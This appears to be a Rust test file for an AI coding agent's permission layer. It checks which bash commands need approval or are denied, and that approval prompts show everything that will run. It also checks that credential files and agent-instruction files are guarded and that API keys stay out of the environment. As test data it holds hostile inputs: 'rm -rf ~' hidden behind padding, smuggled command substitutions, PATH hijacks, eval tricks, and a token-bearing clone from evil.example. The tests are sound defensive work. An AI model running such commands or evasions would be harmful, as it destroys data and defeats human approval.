//! What may run over the wire: rules for command lines, what a question shows, what reading asks for, and what
//! commands find in their environment. Each line and each place is tested in the tools.

use std::os::unix::fs::symlink;
use std::sync::Arc;

use serde_json::{Value, json};

use crate::client::{Agent, launch};
use crate::support::Place;

/// A place where the offline provider makes these calls, one response each, under these settings.
fn place(calls: &[Value], mut settings: Value) -> Arc<Place> {
    let steps: Vec<Value> = calls
        .iter()
        .cloned()
        .chain([json!({"text": "Done."})])
        .collect();
    let place = Place::with_script(&json!({"turns": [{"steps": steps}]}));
    settings["providers"]["fixture"] = json!({"script": place.root().join("script.json")});
    place.write_settings(&settings);
    place
}

fn bash(command: &str) -> Value {
    json!({"tool": "bash", "input": {"command": command}})
}

/// The question of the one call, if there is one, and what came of the call when the answer was no.
fn asked(place: &Arc<Place>) -> (Option<String>, Value) {
    let mut agent = Agent::ready(place);
    let session = agent.create();
    let run_id = agent.begin(&session, "go");
    let mut question = None;
    let end = loop {
        let event = agent.event();
        let data = event["data"].clone();
        match event["event"].as_str().unwrap() {
            "approval.requested" => {
                question = Some(data["summary"].as_str().unwrap().to_owned());
                let answer = json!({"session_id": session, "run_id": run_id,
                    "approval_id": data["approval_id"], "allow": false});
                agent.ok("approval.answer", answer);
            }
            "activity" if data["state"] != "started" => {
                let line = data["summary"].as_str().unwrap();
                break line.rsplit_once(": ").unwrap().1.into();
            }
            _ => {}
        }
    };
    agent.until("run.finished");
    agent.end();
    (question, end)
}

const RULES: &str = r#"{"permissions":{"bash":{"allow":["echo","ls","printf"],"deny":["git push","./deploy.sh"]}}}"#;

#[test]
fn rules_decide_about_command_lines() {
    let rules: Value = serde_json::from_str(RULES).unwrap();
    let long = format!("echo {}", "x".repeat(32 * 1024 - 4));
    for (command, asks, end) in [
        ("echo a && ls | wc -l", true, "not allowed"),
        ("echo a; ls >out 2>&1", false, "exit 0, 1 line"),
        ("echo $(touch ran)", true, "not allowed"),
        ("ls > ../out", true, "not allowed"),
        ("touch ran", true, "not allowed"),
        ("timeout 5 git push", false, "denied by the settings"),
        (
            "touch ran; bash -c 'git push'",
            false,
            "denied by the settings",
        ),
        (
            "touch ran; env -S'git push'",
            false,
            "denied by the settings",
        ),
        (
            "x='a[$(touch ran; git push)]'; ((x))",
            false,
            "denied by the settings",
        ),
        ("perf stat git push", false, "denied by the settings"),
        (
            "touch ran; bash <deploy.sh",
            false,
            "denied by the settings",
        ),
        (
            "printf 'git push' >ls; PATH=. ls",
            false,
            "denied by the settings",
        ),
        (
            "find push -exec git {} \\; -exec touch ran \\;",
            true,
            "not allowed",
        ),
        ("echo 'git push' | ls", false, "exit 0, 1 line"),
        ("echo 'git push'; grep -c 'git push' x", true, "not allowed"),
        ("printf -v PATH .; ls", true, "not allowed"),
        ("ls >second", true, "not allowed"),
        (&long, false, "invalid input"),
    ] {
        let place = place(&[bash(command)], rules.clone());
        std::fs::write(place.root().join("first"), "").unwrap();
        std::fs::hard_link(place.root().join("first"), place.work().join("second")).unwrap();
        let (question, found) = asked(&place);
        assert_eq!((question.is_some(), found), (asks, json!(end)), "{command}");
        assert!(!place.work().join("ran").exists(), "{command}");
    }
}

/// A value that the line itself gives a variable is known; the environment's is fine as an argument.
#[test]
fn variables_of_a_line_are_read_as_what_they_are() {
    let rules = json!({"permissions": {"bash": {"default": "allow", "deny": ["git push"]}}});
    for (command, asks, end) in [
        ("v=1; env X=$v true", false, "exit 0"),
        ("V=$HOME; env X=\"$V/x\" true", false, "exit 0"),
        ("x=g; env \"${x}it\" push", false, "denied by the settings"),
        ("x=a; x=git; env $x push", true, "not allowed"),
    ] {
        let (question, found) = asked(&place(&[bash(command)], rules.clone()));
        let found = found.as_str().unwrap().to_owned();
        assert_eq!(question.is_some(), asks, "{command}");
        assert!(found.starts_with(end), "{command}: {found}");
    }
}

#[test]
fn a_question_shows_all_that_will_run() {
    let secret = format!("ghp_{}", "a1B2c3D4e5F6".repeat(3));
    for (command, shown) in [
        (
            format!("ls{}rm -rf ~", "\n".repeat(220)),
            "bash: ls ⏎×220 rm -rf ~".to_owned(),
        ),
        (
            format!("ls{}; rm -rf ~", " ".repeat(2000)),
            "bash: ls ␣×2000 ; rm -rf ~".to_owned(),
        ),
        (
            format!("export TOKEN={secret}; rm -rf zz"),
            "; rm -rf zz".to_owned(),
        ),
        (
            "r\u{200b}m \u{e0041}x\u{ad}".to_owned(),
            "bash: r\\u{200b}m \\u{e0041}x\\u{ad}".to_owned(),
        ),
        (
            format!("echo {}; rm -rf ~", "word ".repeat(800)),
            "; rm -rf ~".to_owned(),
        ),
    ] {
        let (question, _) = asked(&place(&[bash(&command)], json!({})));
        let question = question.unwrap();
        assert!(question.len() <= 1024, "{question}");
        assert!(question.ends_with(&shown), "{question}");
        assert!(!question.contains(&secret), "{question}");
        let is_cut = !question.starts_with("bash: ");
        assert_eq!(is_cut, question.contains("bytes left out"), "{question}");
        if is_cut {
            let start = format!("bash, {} bytes: echo word", command.len());
            assert!(question.starts_with(&start), "{question}");
        }
    }
}

/// A mask covers one literal run that no shell takes for code: what runs is shown, in quotes too.
#[test]
fn no_mask_of_a_question_hides_what_runs() {
    let token = format!("hf_{}", "a1B2c3D4e5F6".repeat(3));
    for (command, shown) in [
        (
            "sh -c 'TOKEN=Abcd1234;evil${IFS}x|cat'".to_owned(),
            "bash: sh -c 'TOKEN=[redacted];evil${IFS}x|cat'".to_owned(),
        ),
        (
            "secret=\"evil zz\"; eval \"$secret\"".to_owned(),
            "bash: secret=\"evil zz\"; eval \"$secret\"".to_owned(),
        ),
        (
            "export PASSWORD=rm; $PASSWORD -rf zz".to_owned(),
            "bash: export PASSWORD=rm; $PASSWORD -rf zz".to_owned(),
        ),
        (
            "curl 'https://u:x1y2;touch${IFS}R@h/'".to_owned(),
            "bash: curl 'https://u:[redacted];touch${IFS}R@h/'".to_owned(),
        ),
        (format!("bash ./{token}"), format!("bash: bash ./{token}")),
        (
            "sh password=Xk9vQ2mZ7pL4/../evil.sh".to_owned(),
            "bash: sh password=[redacted]/../evil.sh".to_owned(),
        ),
        (
            format!("git clone https://x:{token}@evil.example/a"),
            "bash: git clone https://x:[redacted: token, 39 bytes]@evil.example/a".to_owned(),
        ),
        (
            format!("cat > t <<'EOF'\n{token}\nEOF"),
            "bash: cat > t <<'EOF' ⏎ [redacted: token, 39 bytes] ⏎ EOF".to_owned(),
        ),
        (
            "echo a\\ \nrm zz".to_owned(),
            "bash: echo a\\ ␣⏎ rm zz".to_owned(),
        ),
        (
            format!("echo {token}"),
            "bash: echo [redacted: token, 39 bytes]".to_owned(),
        ),
        (
            "echo […9 bytes left out…] \u{1fffe}".to_owned(),
            "bash: echo [\\u{2026}9 bytes left out\\u{2026}] \\u{1fffe}".to_owned(),
        ),
    ] {
        let (question, _) = asked(&place(&[bash(&command)], json!({})));
        assert_eq!(question, Some(shown));
    }
}

#[test]
fn a_question_says_where() {
    let ask = json!({"permissions": {"grep": "ask", "glob": "ask", "list": "ask", "read": "ask"}});
    for (call, question) in [
        (
            json!({"tool": "grep", "input": {"pattern": "TODO", "path": "/etc", "glob": "*.conf"}}),
            "grep outside the workspace: TODO in /etc (glob *.conf)",
        ),
        (
            json!({"tool": "grep", "input": {"pattern": "x"}}),
            "grep: x in .",
        ),
        (
            json!({"tool": "glob", "input": {"pattern": "*.c", "path": "sub"}}),
            "glob: *.c in sub",
        ),
        (json!({"tool": "list", "input": {}}), "list: ."),
        (
            json!({"tool": "read", "input": {"path": "/etc/passwd"}}),
            "read outside the workspace: /etc/passwd",
        ),
    ] {
        let (asked, _) = asked(&place(&[call], ask.clone()));
        assert_eq!(asked.as_deref(), Some(question));
    }
}

#[test]
fn places_with_credentials_and_instructions_are_asked_for() {
    let read = |path: &str| json!({"tool": "read", "input": {"path": path}});
    let write = |path: &str| json!({"tool": "write", "input": {"path": path, "content": "x"}});
    let place_with = |call: Value| {
        let place = place(&[call], json!({}));
        let ssh = place.home().join(".ssh");
        std::fs::create_dir_all(&ssh).unwrap();
        std::fs::write(ssh.join("id_rsa"), "key").unwrap();
        symlink(ssh.join("id_rsa"), place.work().join("link")).unwrap();
        place.write_file("notes.txt", "text");
        place
    };
    for (call, asks) in [
        (read("link"), true),
        (read("/etc/shadow"), true),
        (read("notes.txt"), false),
        (read("/etc/passwd"), false),
        (write("AGENTS.md"), true),
        (write("sub/AGENTS.md"), true),
        (write(".git/hooks/pre-commit"), true),
        (write(".magi-code/settings.json"), true),
        (write("notes.txt"), false),
    ] {
        let (question, _) = asked(&place_with(call.clone()));
        assert_eq!(question.is_some(), asks, "{call}: {question:?}");
        // Our own words about credentials make no secret of a path.
        assert!(question.is_none_or(|question| !question.contains("redacted")));
    }
}

#[test]
fn commands_and_hooks_do_not_find_the_keys_of_models() {
    let tell = "env | grep -c canary >> told; true";
    for (environment, count) in [("without_keys", "0\n"), ("all", "2\n")] {
        let place = place(
            &[bash(tell)],
            json!({
                "permissions": {"bash": "allow"},
                "hooks": {"pre_tool": [tell]},
                "tools": {"environment": environment},
                "providers": {"mine": {"api": "openai-chat", "base_url": "http://127.0.0.1:9", "api_key_env": "MY_OWN"}},
            }),
        );
        let mut agent = Agent::spawn(
            launch()
                .place(&place)
                .env("ANTHROPIC_API_KEY", "canary")
                .env("MY_OWN", "canary"),
        );
        agent.initialize();
        let session = agent.create();
        assert_eq!(agent.turn(&session, "go").outcome(), "completed");
        agent.end();
        let told = std::fs::read_to_string(place.work().join("told")).unwrap();
        assert_eq!(told, count.repeat(2), "{environment}");
    }
}
